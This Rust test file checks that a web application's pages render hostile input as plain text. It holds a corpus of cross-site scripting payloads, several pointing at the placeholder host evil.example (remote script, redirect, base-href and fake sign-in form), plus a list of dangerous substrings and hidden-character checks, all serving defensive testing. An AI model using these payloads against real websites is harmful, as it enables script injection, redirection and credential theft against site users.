//! Documents are hostile: whatever stands in them is text on every page.

use proptest::prelude::*;

use crate::fixture::World;
use crate::pages::all;

/// What attackers write where a page might take it for markup, an attribute, an address or a script.
const CORPUS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>",
    "</style><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "javascript:alert(1)",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "`${alert(1)}` {{constructor.constructor('alert(1)')()}}",
    "<form action=//evil.example><button>Sign in",
];

/// The tags of a page, and of each the names of its attributes; texts and values do not show.
fn skeleton(page: &str) -> Vec<String> {
    let mut skeleton = Vec::new();
    for tag in page.split('<').skip(1) {
        let mut inside = String::new();
        let mut quoted = false;
        for letter in tag.chars() {
            match letter {
                '"' => quoted = !quoted,
                '>' if !quoted => break,
                _ if quoted => {}
                _ => inside.push(letter),
            }
        }
        skeleton.push(inside);
    }
    skeleton
}

#[track_caller]
fn check_is_text(payload: &str) {
    let (harmless, hostile) = (World::of(1, "harmless"), World::of(1, payload));
    for ((name, expected), (_, page)) in all(&harmless, "harmless").into_iter().zip(all(&hostile, payload)) {
        for bad in ["<script>alert", "<img", "<iframe", "<base", "onerror=\"", "href=\"javascript:", "href=\"//"] {
            assert!(!page.contains(bad), "{name} has `{bad}` for `{payload}`");
        }
        // What differs in shape is only what a page does with long or unusual words: never a tag of the payload's own.
        let allowed: std::collections::BTreeSet<String> = skeleton(&expected).into_iter().collect();
        let names = |tag: &String| tag.split_whitespace().next().unwrap_or_default().trim_end_matches('/').to_owned();
        let known: std::collections::BTreeSet<String> =
            allowed.iter().map(names).chain(EXTRA.map(str::to_owned)).collect();
        for tag in skeleton(&page) {
            assert!(known.contains(&names(&tag)), "{name} has the tag `{tag}` for `{payload}`");
            assert!(!tag.contains(" on"), "{name} has a handler in `{tag}` for `{payload}`");
        }
    }
}

/// Tags that pages use for some texts and not for others: empty states, words that were replaced.
const EXTRA: [&str; 12] =
    ["del", "/del", "ins", "/ins", "h2", "/h2", "div", "/div", "strong", "/strong", "section", "/section"];

#[test]
fn the_corpus_is_text_on_every_page() {
    for payload in CORPUS {
        check_is_text(payload);
    }
}

#[test]
fn what_hides_is_made_visible() {
    let world = World::of(1, "safe\u{202e}txt.exe\u{200b}\u{1b}[31m");
    for (name, page) in all(&world, "safe\u{202e}txt.exe\u{200b}\u{1b}[31m") {
        for hidden in ['\u{1b}', '\u{202e}', '\u{200b}'] {
            assert!(!without_values(&page).contains(hidden), "{name} has {hidden:?}");
        }
    }
}

/// The page without what its fields hold: that goes back to the server as it came, and browsers show it in fields alone.
fn without_values(page: &str) -> String {
    let mut parts = page.split(" value=\"");
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |page, part| page + part.split_once('"').map_or("", |(_, rest)| rest))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn any_words_are_text(words in "[<>&\"'/=a-z \\-`!\\[\\]{}()]{1,60}") {
        if words.trim().len() > 1 && !words.contains("href=") {
            let world = World::of(1, &words);
            for (name, page) in all(&world, &words) {
                prop_assert!(!page.contains("<script>"), "{}", name);
                prop_assert_eq!(page.matches("</html>").count(), 1, "{}", name);
            }
        }
    }
}
